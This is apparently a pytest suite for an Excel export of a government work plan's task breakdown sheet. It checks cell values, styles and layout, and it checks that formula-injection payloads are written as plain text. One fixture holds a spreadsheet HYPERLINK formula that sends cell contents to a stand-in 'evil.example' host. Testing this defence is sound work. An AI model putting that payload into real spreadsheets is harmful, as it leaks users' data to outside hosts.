"""The 任务分解表 export, cell by cell: what the office sees and what the importer reads back.

These pin the workbook the write-only openpyxl export produced (values and their types, headers,
column order, sheet names, fonts, fills, borders, alignment, widths, row heights, merged title,
print set-up), so the writer underneath can change and the file cannot. Query counts stay flat
however many rows the export writes.
"""

import datetime as dt
import io
import random
import zipfile

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from openpyxl import load_workbook

from deadlines.models import Recurrence, UnresolvedPhrase
from tasks.excel.breakdown import (
    COLUMNS,
    HEADERS,
    KEY_HEADER,
    _Follow,
    export_rows,
    parse_breakdown,
    write_breakdown,
)
from tasks.excel.streaming import add_sheet, row_height_of, row_pixels, streaming_workbook, write_row
from tasks.models import AssignmentRole, TaskFlag, TaskSource, TaskStatus
from tasks.supervision.report import row_height
from tests.factories import (
    AssignmentFactory,
    MilestoneFactory,
    PlanFactory,
    ProgressReportFactory,
    TaskFactory,
    UnitFactory,
)

pytestmark = pytest.mark.django_db

GENERATED = timezone.make_aware(dt.datetime(2020, 10, 1, 8, 0))
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&D5,"查看附件")'


@pytest.fixture
def plan(unit_a, unit_b):
    """Every kind of row: table and text tasks, a sub-task, two units each side, a recurring phrase,
    a bare date, an extension, an unresolved phrase, progress over several lines, formula payloads,
    open tasks overdue and due soon, a closed one that was overdue, an empty cell."""
    plan = PlanFactory(title="2020年萧山区工作要点", year=2020)
    t1 = TaskFactory(plan=plan, number="1", order=1, source=TaskSource.TABLE, category="夯实基础",
                     indicator="事项基础", target="做好“一件事”梳理归集，" * 6, title="事项基础",
                     flag=TaskFlag.OVERDUE)
    AssignmentFactory(task=t1, unit=unit_a, role=AssignmentRole.LEAD, order=0)
    AssignmentFactory(task=t1, unit=UnitFactory(name="区发改局"), role=AssignmentRole.LEAD, order=1)
    AssignmentFactory(task=t1, unit=unit_b, role=AssignmentRole.RESPONSIBLE, order=2)
    MilestoneFactory(task=t1, due_on=dt.date(2020, 12, 31), phrase="12月底")
    ProgressReportFactory(task=t1, unit=unit_a, text="已完成方案制定。\n正在推进。\n第三行")
    sub = TaskFactory(plan=plan, parent=t1, number="1-1", order=2, title="子任务", text="子任务的内容",
                      status=TaskStatus.IN_PROGRESS, flag=TaskFlag.DUE_SOON)
    AssignmentFactory(task=sub, unit=unit_b, role=AssignmentRole.LEAD, order=0)
    for q, day in enumerate([(3, 31), (6, 30), (9, 30), (12, 31)]):
        MilestoneFactory(task=sub, due_on=dt.date(2020, *day), phrase="每季度", order=q,
                         recurrence=Recurrence.QUARTERLY)
    t3 = TaskFactory(plan=plan, number="2", order=3, category="营商环境", indicator="企业开办",
                     target="办理时限压减至1个工作日以内。", title="企业开办", status=TaskStatus.DONE_LATE,
                     flag=TaskFlag.OVERDUE)
    AssignmentFactory(task=t3, unit=unit_a, role=AssignmentRole.LEAD, order=0)
    MilestoneFactory(task=t3, due_on=dt.date(2020, 9, 30), phrase="6月底", original_due_on=dt.date(2020, 6, 30))
    MilestoneFactory(task=t3, due_on=dt.date(2020, 11, 15), phrase="", order=1)
    t4 = TaskFactory(plan=plan, number="3", order=4, title="=1+1", text="-目标", category="+分类")
    UnresolvedPhrase.objects.create(task=t4, phrase="长期坚持")
    ProgressReportFactory(task=t4, unit=unit_b, text=HYPERLINK)
    t5 = TaskFactory(plan=plan, number="4", order=5, title="无内容", text="", category="")
    AssignmentFactory(task=t5, unit=unit_b, role=AssignmentRole.LEAD, order=0)
    return plan


def _export(tasks, **kwargs) -> bytes:
    buf = io.BytesIO()
    write_breakdown(buf, tasks, note="筛选条件：全部", generated_at=GENERATED, **kwargs)
    return buf.getvalue()


def _rgb(color) -> str | None:
    # the alpha byte is ignored by Excel, WPS and LibreOffice: compare the colour only
    return color.rgb[-6:] if color is not None and isinstance(color.rgb, str) else None


def _font(c):
    return (c.font.name, float(c.font.sz), bool(c.font.b), _rgb(c.font.color))


def _style(c) -> tuple:
    """What a cell looks like: font, fill, border, alignment, number format."""
    fill = _rgb(c.fill.fgColor) if c.fill.fill_type == "solid" else None
    sides = {s.style for s in (c.border.left, c.border.right, c.border.top, c.border.bottom)}
    align = (c.alignment.horizontal, c.alignment.vertical, bool(c.alignment.wrap_text))
    return (_font(c), fill, sides, align, c.number_format)


TITLE = (("黑体", 16.0, True, None), None, {None}, ("center", "center", False), "General")
NOTE = (("宋体", 10.0, False, "333333"), None, {None}, (None, None, False), "General")
HEAD = (("黑体", 11.0, True, None), "D9D9D9", {"thin"}, ("center", "center", True), "General")
BODY = (("宋体", 10.0, False, None), None, {"thin"}, (None, "center", True), "General")
CENTER = (("宋体", 10.0, False, None), None, {"thin"}, ("center", "center", True), "General")
RED = (("宋体", 10.0, False, None), "F4B6B6", {"thin"}, (None, "center", True), "General")
BLUE = (("宋体", 10.0, False, None), "BDD7EE", {"thin"}, (None, "center", True), "General")
PLAIN = (("Calibri", 11.0, False, None), None, {None}, (None, None, False), "General")


def _body_styles(schedule=BODY) -> list[tuple]:
    return [CENTER, BODY, BODY, BODY, BODY, BODY, schedule, BODY, CENTER, PLAIN]


def test_export_cells_values_and_types_are_those_of_the_breakdown_layout(plan):
    wb = load_workbook(io.BytesIO(_export(plan.tasks.all())))
    assert wb.sheetnames == ["任务分解表"]
    ws = wb["任务分解表"]
    assert ws.max_row == 8 and ws.max_column == 10
    assert ws["A1"].value == "任务分解表"
    assert ws["A2"].value == "筛选条件：全部　　导出时间：2020-10-01 08:00"
    assert [c.value for c in ws[3]] == [*HEADERS, KEY_HEADER]
    ids = list(plan.tasks.order_by("order").values_list("pk", flat=True))
    rt = [f"RT{plan.pk}-{pk}" for pk in ids]
    rows = [[c.value for c in r] for r in ws.iter_rows(min_row=4)]
    assert rows == [
        ["1", "夯实基础", "事项基础", "做好“一件事”梳理归集，" * 6, "区市场监管局、区发改局", "区税务局", "12月底",
         "已完成方案制定。\n正在推进。\n第三行", "未启动", rt[0]],
        ["1-1", None, "子任务", "子任务的内容", "区税务局", None, "每季度", None, "推进中", rt[1]],
        ["2", "营商环境", "企业开办", "办理时限压减至1个工作日以内。", "区市场监管局", None,
         "6月底（延期至2020-09-30）；2020-11-15", None, "逾期完成", rt[2]],
        ["3", "'+分类", "'=1+1", "'-目标", None, None, "长期坚持", "'" + HYPERLINK, "未启动", rt[3]],
        ["4", None, "无内容", None, "区税务局", None, None, None, "未启动", rt[4]],
    ]
    # every value is text: numbers the office typed stay as typed, payloads are not formulas
    assert {c.data_type for r in ws.iter_rows() for c in r if c.value is not None} == {"s"}


def test_export_looks_as_before(plan):
    ws = load_workbook(io.BytesIO(_export(plan.tasks.all())))["任务分解表"]
    assert _style(ws["A1"]) == TITLE and _style(ws["A2"]) == NOTE
    assert {str(r) for r in ws.merged_cells.ranges} == {"A1:I1", "A2:I2"}
    assert [_style(c) for c in ws[3]] == [HEAD] * 9 + [PLAIN]
    assert [_style(c) for c in ws[4]] == _body_styles(RED)  # open and overdue: red 时间进度
    assert [_style(c) for c in ws[5]] == _body_styles(BLUE)  # due soon: blue
    for line in (6, 7, 8):  # closed (even if it was late), or neither
        assert [_style(c) for c in ws[line]] == _body_styles()
    widths = {k: (d.width, bool(d.hidden)) for k, d in ws.column_dimensions.items() if d.width}
    assert widths == {"A": (7, False), "B": (12, False), "C": (20, False), "D": (50, False), "E": (18, False),
                      "F": (22, False), "G": (16, False), "H": (40, False), "I": (10, False), "J": (12, True)}
    heights = {i: ws.row_dimensions[i].height for i in range(1, 9)}
    assert heights == {1: None, 2: None, 3: None, 4: 45.5, 5: 18.5, 6: 45.5, 7: 32.0, 8: 18.5}
    assert ws.freeze_panes == "A4"
    assert ws.auto_filter.ref == "A3:I8"
    assert ws.print_title_rows == "$3:$3"
    setup = ws.page_setup
    # fitToWidth absent is 1, the file format's default
    fit = (setup.fitToWidth or 1, setup.fitToHeight)
    assert (setup.orientation, int(setup.paperSize), *fit) == ("landscape", 9, 1, 0)
    assert ws.sheet_properties.pageSetUpPr.fitToPage is True
    assert ws.print_options.horizontalCentered is True
    m = ws.page_margins
    assert (m.left, m.right, m.top, m.bottom, m.header, m.footer) == (0.4, 0.4, 0.5, 0.65, 0.5, 0.25)
    assert ws.oddFooter.center.text == "第 &P 页 共 &N 页"


def test_an_empty_list_still_writes_title_header_and_filter(unit_a):
    ws = load_workbook(io.BytesIO(_export(PlanFactory().tasks.all())))["任务分解表"]
    assert ws.max_row == 3 and [c.value for c in ws[3]] == [*HEADERS, KEY_HEADER]
    assert ws.auto_filter.ref == "A3:I4"


def test_formula_payloads_are_written_as_strings_not_formulas(plan):
    data = _export(plan.tasks.all(), title="=SUM(1)")
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        sheet = zf.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet
    ws = load_workbook(io.BytesIO(data))["任务分解表"]
    assert ws["A1"].value == "'=SUM(1)"
    parsed = parse_breakdown(io.BytesIO(data), year=2020)  # and the importer reads them back unquoted
    row = next(r for r in parsed.rows if r.number == "3")
    assert (row.category, row.indicator, row.target, row.progress) == ("+分类", "=1+1", "-目标", HYPERLINK)


def test_links_and_numbers_in_text_stay_plain_text(plan):
    data = _export(plan.tasks.all(), title="http://evil.example/?d=1")
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        assert "<hyperlink" not in zf.read("xl/worksheets/sheet1.xml").decode()
        assert not [n for n in zf.namelist() if n.startswith("xl/worksheets/_rels/")]
    ws = load_workbook(io.BytesIO(data))["任务分解表"]
    assert ws["A1"].value == "http://evil.example/?d=1" and ws["A1"].hyperlink is None
    assert (ws["A4"].value, ws["A4"].data_type) == ("1", "s")  # 序号 "1" is not the number 1


def test_fast_row_height_gives_the_report_helpers_figure():
    rnd = random.Random(15)
    pieces = ["推进", "“最多跑一次”", "改革", "abc ", "2020-12-31", "；", "\n", "、区税务局", "=1+1", "", "𠮷𠮷𠮷"]
    for _ in range(3000):
        values = ["".join(rnd.choice(pieces) for _ in range(rnd.randrange(0, 40))) for _ in COLUMNS]
        values[rnd.randrange(len(values))] = rnd.choice([None, 3, ""])
        assert row_height_of([c.width for c in COLUMNS])(values) == row_height(values, COLUMNS), values


def test_related_rows_are_merged_by_key_and_rows_of_unlisted_tasks_passed_over():
    # (plan, order, task) keys: task 3 was added between the queries, task 7 is listed twice
    follow = _Follow(iter([(1, 1, 1, "a"), (1, 1, 1, "b"), (1, 2, 3, "orphan"), (1, 3, 2, "c"), (2, 1, 7, "d")]))
    assert follow.take((1, 1, 1)) == [("a",), ("b",)]
    assert follow.take((1, 3, 2)) == [("c",)]
    assert follow.take((1, 5, 9)) == []
    assert follow.take((2, 1, 7)) == [("d",)] and follow.take((2, 1, 7)) == [("d",)]
    assert follow.take((3, 1, 8)) == []


def test_a_streaming_sheet_forgets_each_rows_height_once_the_row_is_written(tmp_path):
    wb = streaming_workbook(str(tmp_path / "rows.xlsx"))
    ws = add_sheet(wb, "任务分解表")
    for line in range(1000):
        ws.set_row_pixels(line, row_pixels(18.5))
        write_row(ws, line, ["=1+1", None], [None, None])
    assert len(ws.row_info) <= 2  # memory flat: not a record per row written
    wb.close()
    sheet = load_workbook(tmp_path / "rows.xlsx")["任务分解表"]
    assert sheet.max_row == 1000 and sheet.row_dimensions[1000].height == 18.5
    assert (sheet["A1000"].value, sheet["A1000"].data_type) == ("'=1+1", "s")


def _queries(tasks) -> int:
    with CaptureQueriesContext(connection) as ctx:
        _export(tasks)
    return len(ctx.captured_queries)


def test_query_count_does_not_grow_with_the_rows(unit_a, unit_b):
    small, large = PlanFactory(), PlanFactory()
    for plan, n in ((small, 3), (large, 30)):
        for i in range(n):
            task = TaskFactory(plan=plan, order=i, flag=TaskFlag.OVERDUE if i % 2 else "")
            AssignmentFactory(task=task, unit=unit_a, role=AssignmentRole.LEAD, order=0)
            AssignmentFactory(task=task, unit=unit_b, role=AssignmentRole.RESPONSIBLE, order=1)
            MilestoneFactory(task=task)
            ProgressReportFactory(task=task, unit=unit_a)
            UnresolvedPhrase.objects.create(task=task, phrase="长期坚持")
    assert _queries(small.tasks.all()) == _queries(large.tasks.all())
    # and across chunks: the tasks and their units, milestones and phrases, one query each
    for plan, n in ((small, 3), (large, 30)):
        with CaptureQueriesContext(connection) as ctx:
            assert len(list(export_rows(plan.tasks.all(), chunk=5))) == n
        assert len(ctx.captured_queries) == 4
